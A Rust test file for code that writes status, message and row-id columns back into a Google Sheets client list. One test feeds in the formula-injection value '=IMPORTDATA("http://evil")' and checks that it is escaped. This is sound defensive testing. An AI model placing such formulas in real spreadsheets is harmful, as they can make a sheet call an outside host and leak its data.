use super::{
    super::{a1, values},
    requests::RANGE_BYTES,
    *,
};
use crate::{address::letters, config};

fn cells(line: &str) -> Vec<String> {
    line.split('|').map(str::to_owned).collect()
}

/// The tab `Clients` as it was read, its header in row 1; of its columns the first two are read.
fn read(lines: &[&str]) -> Read {
    let [status, message, id] = ["Status", "To do", "id"].map(|name| Some(name.to_owned()));
    let own = Own::find(&config::WriteBack { status, message, id }, &cells(lines[0]));
    let columns: Vec<u16> = [0, 1].into_iter().chain(own.columns()).collect();
    let sheet = Sheet { id: "0".into(), title: "Clients".into(), rows: 100, columns: 9, ..Sheet::default() };
    let mut read = Read::new(&sheet, (1, cells(lines[0])), own, &columns);
    for (i, line) in lines.iter().enumerate().skip(1) {
        let line = cells(line);
        read.keep(i as u32 + 1, |at| line.get(usize::from(columns[at])).map_or("", String::as_str));
    }
    read
}

/// The same with what each row is to say, from row 2 on.
fn job(lines: &[&str], says: &[(&'static str, &str)]) -> Job {
    let status = |(i, (status, message)): (usize, &(&'static str, &str))| RowStatus {
        row: i as u32 + 2,
        status,
        message: (*message).to_owned(),
    };
    let statuses: Vec<RowStatus> = says.iter().enumerate().map(status).collect();
    read(lines).saying(&statuses, "book", RunId(uuid::Uuid::from_u128(1)))
}

/// What is written, cell by cell with the names of rows as `id`, and how many stand and are left.
fn written(job: &Job, now: &[&str]) -> Result<(Vec<String>, u64, u64), Unread> {
    let want = job.looked_at();
    let lines: Vec<Vec<String>> = now.iter().map(|line| cells(line)).collect();
    let at = |row: u32, column: u16| {
        lines.get(row as usize - 1).and_then(|l| l.get(usize::from(column))).map_or("", String::as_str)
    };
    let blocks = a1::runs(&want.columns).into_iter().map(|run| {
        let column = |column| {
            let mut cells: Vec<&str> = want.rows.clone().map(|row| at(row, column)).collect();
            cells.truncate(cells.iter().rposition(|cell| !cell.is_empty()).map_or(0, |last| last + 1));
            cells
        };
        serde_json::json!({ "range": "A1", "values": run.map(column).collect::<Vec<_>>() })
    });
    let body = serde_json::json!({ "valueRanges": blocks.collect::<Vec<_>>() }).to_string();
    let blocks = values::parse(body.as_bytes()).expect("an answer");
    let pieces = vec![(want.rows.clone(), Lines::new(&want.columns, &blocks))];
    let filled = BTreeSet::new();
    let changes = job.changes(&Fresh { header: &lines[0], columns: &want.columns, pieces, filled: &filled })?;
    let shown = |(column, row, text): &Cell<'_>| {
        let text = if text.starts_with("sb-") { "id" } else { text };
        format!("{}{row}={text}", letters(*column))
    };
    Ok((changes.cells.iter().map(shown).collect(), changes.stand, changes.left))
}

#[track_caller]
fn check(job: &Job, now: &[&str], cells: &str, stand: u64, left: u64) {
    let expected = cells.split(", ").filter(|c| !c.is_empty()).map(str::to_owned).collect();
    assert_eq!(written(job, now).expect("there is room"), (expected, stand, left), "{now:#?}");
}

const OK: (&str, &str) = ("ok", "");
const WAITS: (&str, &str) = ("waits", "⚠ Phone: no");

const FIRST: [&str; 3] = ["Name|Phone", "Anna|1", "Boris|x"];
const AGAIN: [&str; 3] = ["Name|Phone|Status|To do|id", "Anna|1|ok||sb-1", "Boris|x|waits|⚠ Phone: no|sb-2"];

#[test]
fn the_columns_are_made_and_filled() {
    let first = job(&FIRST, &[OK, WAITS]);
    let all = "C1=Status, D1=To do, E1=id, C2=ok, E2=id, C3=waits, D3=⚠ Phone: no, E3=id";
    check(&first, &FIRST, all, 0, 0);
    // An attempt of which nobody knew came through, whole or with a row that was sorted meanwhile.
    let ids: Vec<&str> = first.due.iter().filter_map(|due| due.said[2].as_deref()).collect();
    let (anna, boris) = (format!("Anna|1|ok||{}", ids[0]), format!("Boris|x|waits|⚠ Phone: no|{}", ids[1]));
    check(&first, &["Name|Phone|Status|To do|id", &anna, &boris], "", 8, 0);
    check(&first, &["Name|Phone|Status|To do|id", &boris, &anna], "", 3, 2);
    check(&first, &["Name|Phone|Status||id", &anna, "Boris|x|ok||sb-7"], "D1=To do, C3=waits, D3=⚠ Phone: no", 4, 0);
}

#[test]
fn only_what_differs_is_written() {
    assert!(job(&AGAIN, &[OK, WAITS]).due.is_empty());
    check(&job(&AGAIN, &[OK, OK]), &AGAIN, "C3=ok, D3=", 0, 0);
    check(&job(&AGAIN, &[WAITS, WAITS]), &AGAIN, "C2=waits, D2=⚠ Phone: no", 0, 0);
    // Rows without a word, as totals, are passed over.
    let statuses = [RowStatus { row: 3, status: "ok", message: String::new() }];
    let job = read(&AGAIN).saying(&statuses, "book", RunId(uuid::Uuid::nil()));
    check(&job, &AGAIN, "C3=ok, D3=", 0, 0);
}

#[test]
fn only_what_is_needed_is_looked_at() {
    let looked_at = |job: &Job| (job.looked_at().columns, job.looked_at().rows);
    assert_eq!(looked_at(&job(&FIRST, &[OK, WAITS])), ((0..9).collect(), 2..=100));
    assert_eq!(looked_at(&job(&AGAIN, &[OK, OK])), (vec![0, 1, 2, 3, 4], 3..=3));
    assert_eq!(looked_at(&job(&AGAIN, &[WAITS, OK])), (vec![0, 1, 2, 3, 4], 2..=3));
}

#[test]
fn what_moved_is_left() {
    let both = job(&AGAIN, &[WAITS, OK]);
    let (anna, boris) = ("Anna|1|ok||sb-1", "Boris|x|waits|⚠ Phone: no|sb-2");
    let header = AGAIN[0];
    check(&both, &[header, boris, anna], "", 0, 2);
    check(&both, &[header, "", anna, boris], "", 0, 2);
    check(&both, &[header, boris], "", 0, 2);
    check(&both, &[header, "Anna|2|ok||sb-1", boris], "C3=ok, D3=", 0, 1);
    check(&both, &[header], "", 0, 2);
    // columns
    check(&both, &["Name||Phone|Status|To do|id", "Anna||1|ok||sb-1"], "", 0, 2);
    check(&both, &["Name|Telephone|Status|To do|id", anna, boris], "", 0, 2);
    check(&both, &["Name|Phone|State|To do|id", anna, boris], "", 0, 2);
    check(&both, &["Name|Phone|Status|To do|id|Note", anna, boris], "C2=waits, D2=⚠ Phone: no, C3=ok, D3=", 0, 0);
}

#[test]
fn somebodys_own_words_stay() {
    let own = ["Name|Phone|Status|To do|id", "Anna|1|paid|call|7", "Boris|x|waits|call|"];
    let kept = job(&own, &[WAITS, OK]);
    assert_eq!(kept.kept, 4);
    check(&kept, &own, "E3=id", 0, 0);
    // written since it was read
    let typed = [AGAIN[0], "Anna|1|paid||sb-1", "Boris|x|waits|call|sb-2"];
    check(&job(&AGAIN, &[WAITS, OK]), &typed, "D2=⚠ Phone: no, C3=ok", 0, 0);
    let named = ["Name|Phone|Status|To do|id", "Anna|1|||sb-9", "Boris|x|||"];
    check(&job(&FIRST, &[OK, OK]), &named, "C2=ok, C3=ok, E3=id", 3, 0);
}

#[test]
fn there_is_room_where_nothing_stands() {
    let first = job(&FIRST, &[OK, WAITS]);
    let at = "C1=Status, E1=To do, G1=id, C2=ok, G2=id, C3=waits, E3=⚠ Phone: no, G3=id";
    check(&first, &["Name|Phone||||", "Anna|1||stray", "Boris|x||||", "|||||note"], at, 0, 0);
    let full = written(&first, &["Name|Phone", "Anna|1", "||x||x|x|x|x|x"]).expect_err("there is no room");
    assert_eq!((full.code.name(), full.hint.as_str()), ("google-no-room", "`Clients`: \"To do\""));
    let mut merged = job(&FIRST, &[OK, WAITS]);
    merged.read.merged = vec![Area { rows: (1, 1), columns: (1, 2) }, Area { rows: (40, 41), columns: (4, 4) }];
    let at = "D1=Status, F1=To do, G1=id, D2=ok, G2=id, D3=waits, F3=⚠ Phone: no, G3=id";
    check(&merged, &FIRST, at, 0, 0);
}

#[test]
fn nothing_runs_as_a_formula() {
    let job = job(&FIRST, &[OK, ("waits", "=IMPORTDATA(\"http://evil\")")]);
    assert_eq!(job.due[1].said[1].as_deref(), Some("'=IMPORTDATA(\"http://evil\")"));
}

#[test]
fn nobody_else_has_the_name_of_a_row() {
    let run = |n| RunId(uuid::Uuid::from_u128(n));
    let names = [
        name(run(1), "book", "0", 2),
        name(run(2), "book", "0", 2),
        name(run(1), "other", "0", 2),
        name(run(1), "book", "1", 2),
        name(run(1), "book", "0", 3),
    ];
    assert!(names.iter().enumerate().all(|(i, name)| !names[..i].contains(name)), "{names:?}");
    assert_eq!(names[0], name(run(1), "book", "0", 2), "tried again, it is the same");
    assert!(names.iter().all(|name| name.len() == 19 && name.starts_with("sb-")));
}

#[test]
fn cells_below_each_other_are_one_range() {
    let cells = vec![(4, 3, "c"), (2, 2, "a"), (4, 2, "b"), (2, 5, "d"), (4, 4, "")];
    let runs = runs_of(0, "O'Neil", cells);
    let shown: Vec<String> = runs.iter().map(|r| format!("{:?} {:?}", r.range.range, r.range.values)).collect();
    assert_eq!(
        shown,
        [
            r#"Some("'O''Neil'!C2:C2") Some([[String("a")]])"#,
            r#"Some("'O''Neil'!C5:C5") Some([[String("d")]])"#,
            r#"Some("'O''Neil'!E2:E4") Some([[String("b")], [String("c")], [String("")]])"#,
        ]
    );
    assert!(runs_of(0, "Clients", Vec::new()).is_empty());
    let both =
        runs_of(0, "A", vec![(2, 2, ""), (2, 3, ""), (4, 3, "")]).into_iter().chain(runs_of(1, "B", vec![(2, 2, "")]));
    assert_eq!(rows_of(&both.collect::<Vec<_>>()), 3);
}

#[test]
fn requests_have_a_size() {
    let sizes =
        |sizes: &[usize], max| packed(sizes.iter(), max, |size| **size).iter().map(Vec::len).collect::<Vec<_>>();
    assert_eq!(sizes(&[], 1000), [0; 0]);
    assert_eq!(sizes(&[100, 100, 100], 1000), [3]);
    assert_eq!(sizes(&[400, 400, 200, 1], 1000), [3, 1]);
    assert_eq!(sizes(&[100, 5000, 100, 100], 1000), [1, 1, 2]);
}

#[test]
fn no_request_is_larger_than_it_is_taken_for() {
    for text in ["x", "ж", "\"\\\n", "\u{1}\t\u{7f}"] {
        let text = text.repeat(10_000);
        let bytes = serde_json::to_vec(&text).expect("JSON").len();
        let count = 9_000_000 / bytes as u32;
        let cells: Vec<Cell<'_>> = (0..count).map(|n| (n as u16 % 3, n / 3 + 2, text.as_str())).collect();
        let runs = runs_of(0, "Clients", cells);
        let size = |run: &Run| serde_json::to_vec(&run.range).expect("JSON").len() + 1;
        assert!(runs.iter().all(|run| size(run) <= run.bytes && run.bytes <= RANGE_BYTES + 100), "{bytes}");
        let requests = packed(runs, REQUEST_BYTES, |run| run.bytes);
        let largest = requests.iter().map(|request| request.iter().map(size).sum::<usize>()).max();
        assert!(largest.is_some_and(|bytes| bytes <= REQUEST_BYTES && bytes > REQUEST_BYTES / 2), "{largest:?}");
        let rows: usize = requests.iter().flatten().map(|run| run.rows.clone().count()).sum();
        assert_eq!((rows, requests.len()), (count as usize, 2));
    }
}

#[test]
fn a_hundred_thousand_rows_take_no_seconds() {
    let rows: Vec<String> = (0..100_000).map(|n| format!("Anna|{n}")).collect();
    let lines: Vec<&str> = ["Name|Phone"].into_iter().chain(rows.iter().map(String::as_str)).collect();
    let says = vec![WAITS; 100_000];
    let start = std::time::Instant::now();
    let mut first = job(&lines, &says);
    first.read.rows = 100_001;
    let (cells, _, left) = written(&first, &lines).expect("there is room");
    assert_eq!((cells.len(), left), (300_003, 0));
    // A second where nothing is optimised and others work beside; what grows with the square takes minutes.
    assert!(start.elapsed().as_secs() < 10, "{:?}", start.elapsed());
}
